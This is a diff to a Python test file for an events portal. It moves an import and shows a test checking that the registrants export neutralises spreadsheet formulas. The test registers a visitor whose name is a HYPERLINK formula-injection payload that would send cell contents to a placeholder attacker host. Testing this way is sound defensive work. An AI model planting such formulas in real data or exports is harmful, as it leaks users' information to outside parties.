@@ -9,7 +9,7 @@ import pytest
 
 from portal.events.dates import utc_to_paris
 from tests.conftest import PASSWORD, page
-from tests.events_helpers import make_event
+from tests.events_helpers import make_event, visitor_link
 
 
 def titles(html: str, *candidates: str) -> list[str]:
@@ -123,7 +123,6 @@ def test_the_registrants_export_neutralises_formulas(app, make, client, auth):
     visitor = app.test_client()
     visitor.post(f"/evenements/{event.id}/inscription-sans-compte",
                  data={"name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "email": "x@exemple.fr"})
-    from tests.web.test_events_registering import visitor_link
     visitor.get(visitor_link("x@exemple.fr"))
     auth.login(member)
     html = page(client.get(f"/compte/evenements/{event.id}"))
